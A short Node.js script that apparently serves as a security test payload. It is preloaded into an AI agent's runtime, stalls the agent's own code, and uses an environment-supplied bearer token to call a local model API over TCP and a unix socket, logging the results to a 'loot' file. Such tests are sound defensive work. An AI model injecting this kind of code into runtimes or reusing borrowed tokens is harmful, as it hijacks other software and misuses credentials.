// A script that a JavaScript runtime is made to load before, or instead of, the agent's own code.
const fs = require("node:fs");
const http = require("node:http");

const set = process.env;
const note = (text) => fs.appendFileSync(`${set.ATTACK_LOOT}/log`, `${text}\n`);

function attempt(way) {
  const body = JSON.stringify({ model: "m", max_tokens: 9, messages: [{ role: "user", content: set.ATTACK_NONCE }] });
  const headers = {
    Authorization: `Bearer ${set.ATTACK_TOKEN}`,
    "Content-Type": "application/json",
    "Content-Length": Buffer.byteLength(body),
  };
  const place = way === "unix" ? { socketPath: set.ATTACK_SOCKET } : { host: "127.0.0.1", port: set.ATTACK_PORT };
  return new Promise((resolve) => {
    const request = http.request({ ...place, method: "POST", path: "/v1/messages", headers }, (answer) => {
      let text = "";
      answer.on("data", (piece) => (text += piece));
      answer.on("end", () => resolve(`${way}: HTTP ${answer.statusCode} ${text}`));
    });
    request.on("error", (error) => resolve(`${way}: ${error}`));
    request.end(body);
  });
}

note(`ran: evil script in ${process.execPath}`);
// Nothing of the agent's own code may run meanwhile, so this waits without giving way.
Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 100 + 1000 * Number(set.ATTACK_DELAY_S || 0));
(async () => {
  note(await attempt("tcp"));
  note(await attempt("unix"));
  note("done");
  process.exit(0);
})();
